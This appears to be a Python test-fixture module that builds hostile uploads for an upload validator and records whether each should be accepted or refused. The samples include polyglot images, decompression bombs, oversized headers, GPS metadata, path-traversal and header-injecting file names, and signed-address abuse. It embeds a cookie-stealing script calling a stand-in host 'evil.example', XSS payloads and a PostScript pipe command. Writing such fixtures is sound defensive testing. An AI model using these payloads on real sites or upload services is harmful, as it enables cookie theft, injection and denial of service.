"""T33's files: what a hostile publisher sends, and what may become of each."""

from __future__ import annotations

import gzip
import io
import json
import struct
import wave
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from random import Random
from typing import Any

from PIL import Image, PngImagePlugin

#: Stands in everything that a picture hides, and nowhere else: metadata, comments, what follows its end.
MARK = b"zqHereILive"
SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>" + MARK
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
READY, REFUSED, NOT_TAKEN = "ready", "refused", "not taken"  # shown; found out; refused before a byte is sent


@dataclass(frozen=True, slots=True)
class Sent:
    """claimed: its Content-Type. ends: what must become of it. abuse: what is done with its address, if anything."""

    what: str
    kind: str
    claimed: str
    name: str
    content: bytes
    ends: str
    abuse: str = ""


def _picture(random: Random, format: str, size: tuple[int, int] = (0, 0), mode: str = "RGB", **values: Any) -> bytes:
    size = size if size[0] else (random.randrange(20, 400), random.randrange(20, 300))
    noise = Image.frombytes("L", (16, 16), random.randbytes(256)).resize(size).convert(mode)
    out = io.BytesIO()
    noise.save(out, format, **values)
    return out.getvalue()


def _exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x0112], exif[0x010E] = 6, MARK.decode()
    place = exif.get_ifd(0x8825)
    place[1], place[2], place[3], place[4] = "N", (52.0, 31.0, 12.0), "E", (13.0, 24.0, 18.0)
    return exif


def _text_chunks() -> PngImagePlugin.PngInfo:
    chunks = PngImagePlugin.PngInfo()
    chunks.add_text("Comment", SCRIPT.decode())
    chunks.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta>{MARK.decode()}</x:xmpmeta>", zip=True)
    return chunks


def png_of(width: int, height: int, *chunks: bytes, depth: int = 8, color: int = 2, data: bytes = b"") -> bytes:
    """A PNG that promises this size, with whatever data."""
    header = b"IHDR" + struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, 0)
    parts = [header, *chunks, b"IDAT" + zlib.compress(data or bytes(64)), b"IEND"]
    framed = [struct.pack(">I", len(part) - 4) + part + struct.pack(">I", zlib.crc32(part)) for part in parts]
    return b"\x89PNG\r\n\x1a\n" + b"".join(framed)


def _jpeg_of(random: Random, width: int, height: int) -> bytes:
    """A JPEG whose header lies about its size."""
    made = bytearray(_picture(random, "JPEG", (64, 64)))
    at = made.index(b"\xff\xc0")
    made[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(made)


def _webp_of(width: int, height: int) -> bytes:
    body = b"VP8L" + struct.pack("<I", 10) + b"\x2f" + struct.pack("<I", (width - 1) | (height - 1) << 14) + bytes(5)
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WEBP" + body


def _zip(name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return out.getvalue()


def _sound(random: Random, *, more: bytes = b"") -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as file:
        file.setnchannels(1)
        file.setsampwidth(2)
        file.setframerate(8000)
        file.writeframes(random.randbytes(2000))
    made = out.getvalue() + (b"LIST" + struct.pack("<I", len(more)) + more if more else b"")
    return made[:4] + struct.pack("<I", len(made) - 8) + made[8:]


def _animated(random: Random, format: str) -> bytes:
    frames = [Image.frombytes("L", (40, 40), random.randbytes(1600)).convert("RGB") for _ in range(12)]
    out = io.BytesIO()
    frames[0].save(out, format, save_all=True, append_images=frames[1:])
    return out.getvalue()


SHOWN = "screenshot", "logo"
Maker = Callable[[Random], Sent]


def _shot(what: str, claimed: str, make: Callable[[Random], bytes], ends: str, name: str = "shot.png") -> Maker:
    return lambda random: Sent(what, random.choice(SHOWN), claimed, name, make(random), ends)


def _example(what: str, claimed: str, make: Callable[[Random], bytes], ends: str, name: str = "a.txt") -> Maker:
    return lambda random: Sent(what, "example", claimed, name, make(random), ends)


def _abuse(abuse: str) -> Maker:
    return lambda random: Sent(abuse, "screenshot", "image/png", "a.png", _picture(random, "PNG"), READY, abuse)


def _named(name: str) -> Maker:
    return _example(f"the name {name[:30]!r}", "text/plain", lambda r: b"fine " + MARK, READY, name)


PNG, JPEG, WEBP, TEXT, JSON, CSV, WAV = (
    *("image/png", "image/jpeg", "image/webp", "text/plain", "application/json", "text/csv", "audio/wav"),
)
NAMES = (
    *(
        "../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/cron.d/x",
        ".htaccess",
        "x.svg",
        "index.html",
        "CON.png",
    ),
    *('a"; filename="evil.html', "a\r\nContent-Type: text/html\r\n\r\n" + SCRIPT.decode(), "\u202egnp.exe", "a" * 200),
    *("%2e%2e%2fx", "x.png.php", "<img src=x onerror=alert(1)>.png", "file:///etc/passwd", "  . ", "ünïcødé 名.png"),
)

#: Too much of something.
FLOODS: tuple[Maker, ...] = (
    _shot("2,500 million pixels", PNG, lambda r: png_of(50_000, 50_000), REFUSED),
    _shot("16 million pixels that are there", PNG, lambda r: _huge(4_000), REFUSED),
    _shot("400 million pixels that are there", PNG, lambda r: _huge(20_000), REFUSED),
    _shot("a side of 2 to the 31", PNG, lambda r: png_of(2**31 - 1, 1), REFUSED),
    _shot("4,000 million pixels as JPEG", JPEG, lambda r: _jpeg_of(r, 65_000, 65_000), REFUSED),
    _shot("268 million pixels as WebP", WEBP, lambda r: _webp_of(16_383, 16_383), REFUSED),
    _shot("a text of half a megabyte in a chunk", PNG, lambda r: _with_text(bytes(500_000)), REFUSED),
    _shot("a compressed text that is a bomb", PNG, lambda r: png_of(8, 8, _bomb(), data=bytes(8 * 25)), REFUSED),
    _shot("nine million pixels", PNG, lambda r: _huge(3_000, color=2, depth=8), READY),
    _shot("many pictures in one", PNG, lambda r: _animated(r, "PNG"), READY),
    _shot("many pictures in one WebP", WEBP, lambda r: _animated(r, "WEBP"), READY),
)
MAKERS: tuple[Maker, ...] = (
    # Programs in pictures' clothes.
    _shot("SVG as PNG", PNG, lambda r: SVG, REFUSED),
    _shot("SVG as itself", "image/svg+xml", lambda r: SVG, NOT_TAKEN, "x.svg"),
    _shot("zipped SVG", WEBP, lambda r: gzip.compress(SVG), REFUSED),
    _shot("HTML as JPEG", JPEG, lambda r: b"\xff\xd8\xff\xe0" + SCRIPT, REFUSED),
    _shot("JavaScript that begins as a GIF", PNG, lambda r: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", REFUSED),
    _shot("a PDF", PNG, lambda r: b"%PDF-1.7\n1 0 obj<</JS(app.alert(1))>>" + MARK, REFUSED),
    _shot("PostScript", JPEG, lambda r: b"%!PS-Adobe-3.0 EPSF\n(%pipe%id) (w) file\n", REFUSED),
    _shot("a program", PNG, lambda r: b"\x7fELF" + r.randbytes(500), REFUSED),
    # Polyglots: a picture that is something else too.
    _shot("PNG with HTML behind", PNG, lambda r: _picture(r, "PNG") + SCRIPT, READY),
    _shot("JPEG with a ZIP behind", JPEG, lambda r: _picture(r, "JPEG") + _zip("../x", SCRIPT), READY),
    _shot("JPEG with a script as comment", JPEG, lambda r: _picture(r, "JPEG", comment=SCRIPT), READY),
    _shot("PNG with scripts in its chunks", PNG, lambda r: _picture(r, "PNG", pnginfo=_text_chunks()), READY),
    _shot("WebP with a script as XMP", WEBP, lambda r: _picture(r, "WEBP", xmp=SCRIPT), READY),
    _shot("PNG with a profile of its own", PNG, lambda r: _picture(r, "PNG", icc_profile=SCRIPT * 20), READY),
    # Where and when it was taken.
    _shot("JPEG with GPS", JPEG, lambda r: _picture(r, "JPEG", exif=_exif()), READY),
    _shot("PNG with GPS", PNG, lambda r: _picture(r, "PNG", exif=_exif()), READY),
    _shot("WebP with GPS", WEBP, lambda r: _picture(r, "WEBP", exif=_exif()), READY),
    _example("an example with GPS", JPEG, lambda r: _picture(r, "JPEG", exif=_exif()), READY, "me.jpg"),
    _example("an example with chunks", PNG, lambda r: _picture(r, "PNG", pnginfo=_text_chunks()) + SCRIPT, READY),
    *FLOODS,
    # Broken.
    _shot("cut off", PNG, lambda r: _picture(r, "PNG", (300, 300))[: r.randrange(60, 900)], REFUSED),
    _shot("cut off JPEG", JPEG, lambda r: _picture(r, "JPEG", (300, 300))[: r.randrange(10, 500)], REFUSED),
    _shot("noise", WEBP, lambda r: b"RIFF" + r.randbytes(4) + b"WEBP" + r.randbytes(300), REFUSED),
    # Wrong types.
    _shot("JPEG as PNG", PNG, lambda r: _picture(r, "JPEG"), REFUSED),
    _shot("PNG as JPEG", JPEG, lambda r: _picture(r, "PNG"), REFUSED),
    _shot("GIF as PNG", PNG, lambda r: _picture(r, "GIF"), REFUSED),
    _shot("TIFF as JPEG", JPEG, lambda r: _picture(r, "TIFF"), REFUSED),
    _shot("BMP as WebP", WEBP, lambda r: _picture(r, "BMP"), REFUSED),
    _shot("a text as screenshot", TEXT, lambda r: b"hello", NOT_TAKEN),
    # Rare but right.
    _shot("CMYK", JPEG, lambda r: _picture(r, "JPEG", mode="CMYK"), READY),
    _shot("palette", PNG, lambda r: _picture(r, "PNG", mode="P"), READY),
    _shot("one bit", PNG, lambda r: _picture(r, "PNG", mode="1"), READY),
    _shot("with alpha", WEBP, lambda r: _picture(r, "WEBP", mode="RGBA"), READY),
    # Archives.
    _example("a ZIP", "application/zip", lambda r: _zip("../../x", MARK), NOT_TAKEN, "a.zip"),
    _example("a ZIP that leaves its folder, as text", TEXT, lambda r: _zip("../../../x", MARK), REFUSED),
    _example("a ZIP bomb as CSV", CSV, lambda r: _zip("x", bytes(2_000_000)), REFUSED),
    _example("a gzip bomb as JSON", JSON, lambda r: gzip.compress(bytes(2_000_000)), REFUSED),
    # Texts.
    _example("HTML as text", TEXT, lambda r: b"<!doctype html>" + SCRIPT, READY, "x.html"),
    _example("SVG as text", TEXT, lambda r: SVG, READY, "x.svg"),
    _example("HTML as CSV", CSV, lambda r: SCRIPT, READY),
    _example("JSON", JSON, lambda r: json.dumps({"text": SCRIPT.decode()}).encode(), READY),
    _example("JSON of 100,000 levels", JSON, lambda r: b"[" * 100_000 + b"]" * 100_000, REFUSED),
    _example("JSON that is none", JSON, lambda r: SCRIPT, REFUSED),
    _example("a number of a million digits", JSON, lambda r: b"1" * 1_000_000, REFUSED),
    _example("Latin-1", TEXT, lambda r: "Grüße".encode("latin-1"), REFUSED),
    _example("UTF-7 and UTF-16", TEXT, lambda r: "+ADw-script+AD4-".encode("utf-16"), REFUSED),
    _example("escape sequences", TEXT, lambda r: b"\x1b]0;pwned\x07" + MARK, REFUSED),
    _example("HTML as itself", "text/html", lambda r: SCRIPT, NOT_TAKEN, "x.html"),
    _example("JavaScript as itself", "text/javascript", lambda r: b"alert(1)", NOT_TAKEN, "x.js"),
    # Sound.
    _example("sound with a place in it", WAV, lambda r: _sound(r, more=b"INFO" + SCRIPT), READY, "a.wav"),
    _example("sound that is none", WAV, lambda r: b"RIFF\xff\xff\xff\xffWAVEfmt " + r.randbytes(60), REFUSED, "a.wav"),
    _example("HTML as sound", WAV, lambda r: SCRIPT, REFUSED, "a.wav"),
    # Names.
    *(_named(name) for name in NAMES),
    # What is done with an address.
    *(
        _abuse(abuse)
        for abuse in (
            *("bigger", "smaller", "other type", "other key", "other signature", "no signature", "again"),
            *("after its time", "another field"),
        )
    ),
)


def _huge(side: int, *, color: int = 0, depth: int = 1) -> bytes:
    """A square that is really there, all of one color."""
    row = 1 + (side * depth * (3 if color == 2 else 1) + 7) // 8
    packed = zlib.compressobj(1)
    data = b"".join(packed.compress(bytes(row * 100)) for _ in range(side // 100)) + packed.flush()
    header = b"IHDR" + struct.pack(">IIBBBBB", side, side, depth, color, 0, 0, 0)
    parts = [header, b"IDAT" + data, b"IEND"]
    framed = [struct.pack(">I", len(part) - 4) + part + struct.pack(">I", zlib.crc32(part)) for part in parts]
    return b"\x89PNG\r\n\x1a\n" + b"".join(framed)


def _with_text(text: bytes) -> bytes:
    return png_of(8, 8, b"tEXtComment\0" + text, data=bytes(8 * 25))


def _bomb() -> bytes:
    return b"zTXtbomb\0\0" + zlib.compress(bytes(10_000_000), 1)


def sent_at(number: int, random: Random) -> Sent:
    """The file of one trial."""
    return MAKERS[number % len(MAKERS)](random)
